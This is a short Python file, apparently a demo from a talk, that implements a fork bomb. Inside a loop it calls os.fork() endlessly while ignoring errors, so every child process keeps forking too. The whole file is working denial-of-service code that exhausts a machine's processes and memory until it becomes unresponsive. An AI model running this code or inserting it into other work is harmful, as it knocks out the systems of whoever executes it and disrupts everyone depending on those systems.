"""Forks as often as it can, and so do its children."""

import os
from contextlib import suppress

from speech import introduced

for _ in introduced():
    while True:
        with suppress(OSError):
            os.fork()
